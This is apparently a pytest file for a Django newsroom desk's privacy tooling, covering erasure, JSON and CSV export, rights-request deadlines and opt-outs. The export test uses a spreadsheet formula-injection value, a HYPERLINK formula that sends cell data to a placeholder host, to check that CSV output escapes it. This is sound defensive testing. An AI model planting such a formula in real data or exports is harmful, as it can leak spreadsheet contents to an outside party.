"""The desk's privacy work: erasure and export from the card, rights requests, opt-outs."""

import csv
import io
import json
from datetime import timedelta

import pytest
from dateutil.relativedelta import relativedelta
from django.utils import timezone

from enquiries.models import AuditEvent, ErasureReceipt, Journalist, RightsRequest, Suppression
from enquiries.privacy.rights import open_rights_request
from tests import makers

pytestmark = pytest.mark.django_db


def test_erasure_from_the_card_needs_the_last_name_typed(officer_client, officer):
    journalist = makers.make_journalist()
    makers.make_enquiry(journalist=journalist)
    url = f"/desk/journalists/{journalist.pk}/erase/"
    who = {"channel": "phone", "requester_name": "Ola Nordmann", "identity_check": "call_back"}
    wrong = officer_client.post(url, {"confirm": "Hansen", **who}, follow=True)
    assert Journalist.objects.filter(pk=journalist.pk).exists()
    assert (
        "nothing was erased" in wrong.content.decode()
        or "ingenting ble slettet" in wrong.content.decode()
    )
    response = officer_client.post(url, {"confirm": " nordmann ", **who})
    assert response.status_code == 302
    assert response["Location"] == "/desk/rights/"
    assert not Journalist.objects.exists()
    receipt = ErasureReceipt.objects.get()
    assert (receipt.via, receipt.by, receipt.enquiries) == ("desk", officer, 1)


def test_export_from_the_card_as_json_and_csv(officer_client):
    journalist = makers.make_journalist(first_name='=HYPERLINK("http://x/?"&A1,"click")')
    makers.make_enquiry(journalist=journalist, topic="Ventetider")
    who = {"channel": "email", "requester_name": "Ola", "identity_check": "registered_email"}
    response = officer_client.post(f"/desk/journalists/{journalist.pk}/export.json", who)
    assert response["Content-Disposition"] == f'attachment; filename="contact-{journalist.pk}.json"'
    data = json.loads(response.content)
    assert data["journalists"][0]["enquiries"][0]["topic"] == "Ventetider"
    response = officer_client.post(f"/desk/journalists/{journalist.pk}/export.csv", who)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][rows[0].index("first_name")].startswith("'=HYPERLINK")
    assert (
        AuditEvent.objects.filter(action="journalist.exported", journalist_id=journalist.pk).count()
        == 2
    )
    assert (
        officer_client.post(f"/desk/journalists/{journalist.pk}/export.xml", who).status_code == 404
    )
    assert RightsRequest.objects.filter(kind="access", status="done").count() == 2


def test_the_rights_page_highlights_overdue_requests_and_the_queue_counts_them(officer_client):
    late = open_rights_request(
        by=None, kind="erasure", channel="letter", received_at=timezone.now() - timedelta(days=40)
    )
    open_rights_request(by=None, kind="access", channel="phone")
    page = officer_client.get("/desk/rights/")
    assert page.status_code == 200
    overdue = [r for r in page.context["requests"] if r.is_overdue]
    assert [r.pk for r in overdue] == [late.pk]
    assert 'class="table-danger"' in page.content.decode()
    assert officer_client.get("/desk/").context["counts"]["rights_overdue"] == 1


def test_an_officer_registers_an_objection_and_it_opts_the_number_out_at_once(
    officer_client, stopped_clock
):
    response = officer_client.post(
        "/desk/rights/new/",
        {"kind": "objection", "channel": "phone", "received_on": timezone.localdate().isoformat(),
         "phone": "400 33 431", "requester_name": "Ola Nordmann", "identity_check": "call_back"},
    )  # fmt: skip
    assert response.status_code == 302
    request = RightsRequest.objects.get()
    assert (request.kind, request.channel, request.created_by is not None) == (
        "objection",
        "phone",
        True,
    )
    journalist = makers.make_journalist(email=None, mobile="+4740033431")
    assert makers.make_enquiry(journalist=journalist).opted_out


def test_a_request_received_in_the_future_is_a_field_error(officer_client, stopped_clock):
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    response = officer_client.post(
        "/desk/rights/new/", {"kind": "access", "channel": "letter", "received_on": tomorrow}
    )
    assert response.status_code == 400
    assert "received_on" in response.context["request_form"].errors
    assert not RightsRequest.objects.exists()


def test_extending_and_completing_a_request(officer_client, stopped_clock):
    request = open_rights_request(by=None, kind="access", channel="letter")
    officer_client.post(
        f"/desk/rights/{request.pk}/extend/",
        {"months": "2", "reason": "Mange saker", "told_on": timezone.localdate().isoformat()},
    )
    request.refresh_from_db()
    assert request.extended_due_date == request.due_date + relativedelta(months=2)
    assert request.extension_reason == "Mange saker"
    officer_client.post(f"/desk/rights/{request.pk}/complete/")
    request.refresh_from_db()
    assert request.status == "done"
    again = officer_client.post(f"/desk/rights/{request.pk}/complete/", follow=True)
    assert again.status_code == 200  # a clear message, not an error page


def test_an_officer_registers_and_withdraws_a_standing_opt_out(officer_client):
    officer_client.post("/desk/rights/opt-out/", {"email": " Ola.Nordmann@VG.NO "})
    assert Suppression.objects.count() == 1
    officer_client.post("/desk/rights/opt-out/", {"email": "ola.nordmann@vg.no", "withdraw": "on"})
    assert not Suppression.objects.exists()
    empty = officer_client.post("/desk/rights/opt-out/", {"email": "", "phone": ""})
    assert empty.status_code == 400


@pytest.mark.parametrize(
    ("action", "data"),
    [
        ("complete", {}),
        ("extend", {"months": "1", "reason": "Mange saker", "told_on": "2026-01-05"}),
    ],
)
def test_a_missing_request_is_a_404_like_any_missing_id(officer_client, action, data):
    response = officer_client.post(f"/desk/rights/999999/{action}/", data)
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action__startswith="rights.").exists()
